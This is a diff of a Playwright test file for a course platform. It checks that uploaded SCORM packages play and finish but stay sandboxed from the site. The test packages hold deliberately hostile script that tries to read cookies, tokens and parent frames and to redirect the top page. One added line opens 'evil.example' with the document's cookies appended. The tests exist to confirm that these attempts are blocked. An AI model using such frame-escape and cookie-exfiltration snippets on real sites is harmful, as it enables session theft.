@@ -1,14 +1,10 @@
 // SCORM packages in a browser: they play, resume, finish a course, and reach nothing of the site.
-import { file } from '@shuyuan/contract/common/file.ts'
-import { course } from '@shuyuan/contract/course/catalog/course.ts'
-import { courseFile } from '@shuyuan/contract/course/file/file.ts'
-import { OpenType } from '@shuyuan/contract/sys/people/open-type.ts'
 import type { Page } from '@playwright/test'
 import { makePackage, manifestOf, pageOf } from '../server/test/scorm-package.ts'
 import { barriers } from './axe.ts'
-import { whenReady } from './courseware.ts'
 import { expect, signIn, test } from './fixtures.ts'
-import { openSite, type Site } from './server.ts'
+import { makeCourseOf, playStyles, uploadPackage } from './packages.ts'
+import { openSite } from './server.ts'
 
 /** Tries what a hostile package would try, and shows what it got. */
 const attack = `<pre id="loot"></pre><script>
@@ -19,6 +15,8 @@ const tries = {
   top: () => top.document.title,
   frame: () => frameElement && frameElement.ownerDocument.title,
   page: () => { top.location.href = '/web/user/info'; return 'left' },
+  window: () => window.open('https://evil.example/?' + document.cookie) && 'opened',
+  site: () => top.frames[0] !== window && 'another frame',
 }
 document.getElementById('loot').textContent = JSON.stringify(Object.fromEntries(Object.entries(tries).map(([name, act]) => {
   try { return [name, act() || ''] } catch (error) { return [name, error.name] }
@@ -41,30 +39,11 @@ api.Initialize('')
 function done() { api.SetValue('cmi.completion_status', 'completed'); api.SetValue('cmi.score.scaled', '0.7'); api.Terminate('') }
 </script>`
 
-async function upload(site: Site, title: string, bytes: Uint8Array) {
-  const { token, call } = await signIn(site, 'teacher')
-  const form = new FormData()
-  form.set('scene', 'course')
-  form.set('file', new Blob([Uint8Array.from(bytes)], { type: 'application/zip' }), `${title}.zip`)
-  const sent = await fetch(site.url + file.upload.path, { method: 'POST', headers: { token }, body: form })
-  const { data } = (await sent.json()) as { data: { url: string } }
-  const { id } = await call(courseFile.save, { title, catId: '', fileUrl: data.url })
-  await whenReady({ call }, [id])
-  return id
-}
-async function makeCourse(site: Site, title: string, fileIds: string[]) {
-  const { call } = await signIn(site, 'teacher')
-  const files = fileIds.map((fileId) => ({ fileId, chapter: '', required: true, minSec: 0 }))
-  const rules = { required: false, startTime: null, endTime: null, videoDrag: true, dragFinished: false, sequential: false }
-  return (await call(course.save, { ...rules, title, openType: OpenType.all, deptCodes: [], groupIds: [], userIds: [], files })).id
-}
 const frameOf = (page: Page, title: string) => page.frameLocator(`iframe[title="${title}"]`)
-test.describe.configure({ timeout: 120_000 })
-
 test('packages of both versions resume, keep what could not be sent, and finish the course @phone', async ({ site, openAs }) => {
   const [first, second] = ['消防安全（1.2）', '急救常识（2004）']
   const fileIds = [
-    await upload(
+    await uploadPackage(
       site,
       first,
       makePackage({
@@ -75,9 +54,9 @@ test('packages of both versions resume, keep what could not be sent, and finish 
         files: { 'one.html': pageOf(old), 'two.html': pageOf(old) },
       }),
     ),
-    await upload(site, second, makePackage({ version: '2004', files: { 'one.html': pageOf(young) } })),
+    await uploadPackage(site, second, makePackage({ version: '2004', files: { 'one.html': pageOf(young) } })),
   ]
-  const courseId = await makeCourse(site, '岗前安全', fileIds)
+  const courseId = await makeCourseOf(site, '岗前安全', fileIds)
   const path = `/web/course/view/${courseId}/${fileIds[0]!}`
   const { page, context, problems } = await openAs('learner30', path)
   const inside = frameOf(page, first)
@@ -111,8 +90,8 @@ test('packages of both versions resume, keep what could not be sent, and finish 
 
 test('a package reaches neither the token nor the page around it', async ({ site, openAs }) => {
   const title = '外来课件'
-  const fileId = await upload(site, title, makePackage({ files: { 'one.html': pageOf(attack), 'plain.html': pageOf('plain') } }))
-  const courseId = await makeCourse(site, '外来课程', [fileId])
+  const fileId = await uploadPackage(site, title, makePackage({ files: { 'one.html': pageOf(attack), 'plain.html': pageOf('plain') } }))
+  const courseId = await makeCourseOf(site, '外来课程', [fileId])
   const { page, problems } = await openAs('learner31', `/web/course/view/${courseId}/${fileId}`)
   const loot = frameOf(page, title).locator('#loot')
   await expect(loot).not.toBeEmpty()
@@ -120,10 +99,13 @@ test('a package reaches neither the token nor the page around it', async ({ site
   expect(JSON.parse((await loot.textContent()) ?? '')).toEqual({
     own: '',
     cookie: '',
-    parent: denied,
+    // a stand-in, which has the API and nothing else
+    parent: 'TypeError',
     top: denied,
     frame: '',
     page: denied,
+    window: '',
+    site: '',
   })
   await expect(page).toHaveURL(new RegExp(`/web/course/view/${courseId}/`))
   const address = (await page.locator(`iframe[title="${title}"]`).getAttribute('src')) ?? ''
@@ -141,15 +123,19 @@ test('a package reaches neither the token nor the page around it', async ({ site
   await page.goto(address.replace('one.html', 'plain.html'))
   await expect(page.getByText('plain')).toBeVisible()
   expect(await page.evaluate(() => window.origin)).toBe('null')
-  // what the browser says about two of these attempts
-  expect(problems.splice(0)).toEqual([expect.stringContaining('Unsafe attempt'), expect.stringContaining('CORS')])
+  // what the browser says about three of these attempts
+  expect(problems.splice(0)).toEqual([
+    expect.stringContaining('Unsafe attempt'),
+    expect.stringContaining('Blocked opening'),
+    expect.stringContaining('CORS'),
+  ])
 })
 
 test('the preview names the rules that are not followed, with their parts', async ({ site, openAs }) => {
   const items = [{ id: '阅读' }, { id: '测验' }]
   const rules = '<imsss:sequencing><imsss:controlMode choice="false" forwardOnly="true"/></imsss:sequencing>'
   const manifest = manifestOf({ version: '2004', items }).replace('<title>T</title>', `<title>有序的课</title>${rules}`)
-  await upload(site, '有序课件', makePackage({ version: '2004', items, manifest }))
+  await uploadPackage(site, '有序课件', makePackage({ version: '2004', items, manifest }))
   const { page } = await openAs('teacher', '/admin/course/file')
   await page.getByRole('button', { name: '有序课件' }).first().click()
   const note = page.getByRole('dialog').getByRole('note')
@@ -158,7 +144,7 @@ test('the preview names the rules that are not followed, with their parts', asyn
   expect(await barriers(page)).toEqual([])
 })
 
-/** The menu is in the outer page, which has the runtime; the pages in its frame find it there, and call the menu. */
+/** The menu is in the outer page; the pages in its frame call it, and find the runtime above it. */
 const outer = `<h1>框架课件</h1><b id="told"></b><iframe src="inner.html" title="inner"></iframe><script>
 API.LMSInitialize('')
 function told(text) { document.getElementById('told').textContent = text; return 'heard' }
@@ -169,8 +155,14 @@ function finish() {
   while (!place.API && place.parent !== place) place = place.parent
   place.API.LMSSetValue('cmi.core.lesson_status', 'completed')
   place.API.LMSCommit('')
-  const loot = { heard: parent.told('内页'), own: localStorage.getItem('token'), same: place.API === parent.API }
-  try { loot.top = top.localStorage.getItem('token') } catch (error) { loot.top = error.name }
+  const loot = { heard: parent.told('内页'), own: localStorage.getItem('token'), same: place.API === parent.parent.API }
+  const tries = {
+    top: () => top.localStorage.getItem('token'),
+    around: () => parent.parent.parent.document.title,
+    page: () => { top.location.href = '/web/user/info'; return 'left' },
+    window: () => window.open('https://evil.example/') && 'opened',
+  }
+  for (const [name, act] of Object.entries(tries)) try { loot[name] = act() || '' } catch (error) { loot[name] = error.name }
   document.getElementById('loot').textContent = JSON.stringify(loot)
 }
 </script>`
@@ -179,8 +171,8 @@ test('on a second host name the frames of a package call one another, and reach 
   const site = await openSite((port) => ({ CONTENT_HOST: `localhost:${port}` }))
   const title = '框架课件'
   try {
-    const fileId = await upload(site, title, makePackage({ files: { 'one.html': pageOf(outer), 'inner.html': pageOf(inner) } }))
-    const courseId = await makeCourse(site, '框架课程', [fileId])
+    const fileId = await uploadPackage(site, title, makePackage({ files: { 'one.html': pageOf(outer), 'inner.html': pageOf(inner) } }))
+    const courseId = await makeCourseOf(site, '框架课程', [fileId])
     const { token } = await signIn(site, 'learner32')
     const page = await browser.newPage({ baseURL: site.url, locale: 'zh-CN' })
     await page.addInitScript(
@@ -190,11 +182,19 @@ test('on a second host name the frames of a package call one another, and reach 
       [token, site.url],
     )
     await page.goto(`/web/course/view/${courseId}/${fileId}`)
-    const frame = frameOf(page, title)
+    const frame = frameOf(page, title).frameLocator('iframe')
     await frame.frameLocator('iframe').getByRole('button', { name: '学完' }).click()
     await expect(frame.locator('#told')).toHaveText('内页')
     const loot = await frame.frameLocator('iframe').locator('#loot').textContent()
-    expect(JSON.parse(loot ?? '')).toEqual({ heard: 'heard', own: null, same: true, top: 'SecurityError' })
+    expect(JSON.parse(loot ?? '')).toEqual({
+      heard: 'heard',
+      own: null,
+      same: true,
+      top: 'SecurityError',
+      around: 'SecurityError',
+      page: 'SecurityError',
+      window: '',
+    })
     await expect(page.getByText('恭喜，您已经学完全部课程啦！')).toBeVisible()
     const address = (await page.locator(`iframe[title="${title}"]`).getAttribute('src')) ?? ''
     expect((await fetch(`http:${address.replace('localhost', '127.0.0.1')}`)).status).toBe(404)
@@ -202,4 +202,29 @@ test('on a second host name the frames of a package call one another, and reach 
   } finally {
     await site.close()
   }
+})
+
+/** The page of a browser test, as the journey through packages uses it. */
+const asEngine = (page: Page) => ({
+  goto: async (url: string) => void (await page.goto(url)),
+  run: <T>(body: string) => page.evaluate<T>(`(async () => {${body}})()`),
+})
+
+test.describe('packages play, however they look for their runtime', () => {
+  test.describe.configure({ timeout: 400_000 })
+  test('as pages of no origin', async ({ site, browser }) => {
+    const page = await browser.newPage({ locale: 'zh-CN' })
+    expect(await playStyles(site, asEngine(page), { isApart: false })).toMatchObject({ problems: [] })
+    await page.close()
+  })
+  test('on a second host name', async ({ browser }) => {
+    const site = await openSite((port) => ({ CONTENT_HOST: `localhost:${port}` }))
+    try {
+      const page = await browser.newPage({ locale: 'zh-CN' })
+      expect(await playStyles(site, asEngine(page), { isApart: true })).toMatchObject({ problems: [] })
+      await page.close()
+    } finally {
+      await site.close()
+    }
+  })
 })
